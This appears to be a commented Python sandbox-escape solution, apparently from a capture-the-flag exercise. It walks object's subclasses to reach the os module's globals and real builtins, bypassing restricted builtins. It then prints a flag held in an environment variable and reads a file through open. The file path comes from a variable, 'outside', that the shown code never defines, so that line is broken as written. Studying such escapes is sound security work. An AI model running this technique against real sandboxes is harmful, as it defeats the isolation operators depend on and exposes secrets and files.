# The walk through object's subclasses: from an empty tuple to the os module, without a single
# name from the builtins and without an import.

# An empty tuple knows its class, a class knows the one above it, which is object, and object
# knows every class that was made directly from it and still exists, in whatever module.
classes = ().__class__.__base__.__subclasses__()

# A class written in Python has methods written in Python. This one belongs to os.
chosen = [each for each in classes if each.__name__ == "_wrap_close"][0]

# A function keeps the globals of its module: here they are the names of os itself.
names = chosen.__init__.__globals__

# The module's own builtins are the real ones, whatever this program was given.
show = names["__builtins__"]["print"]
fetch = names["__builtins__"]["open"]

show(names["environ"]["MUSEUM_FLAG"])
show(fetch(outside["file"]).read())
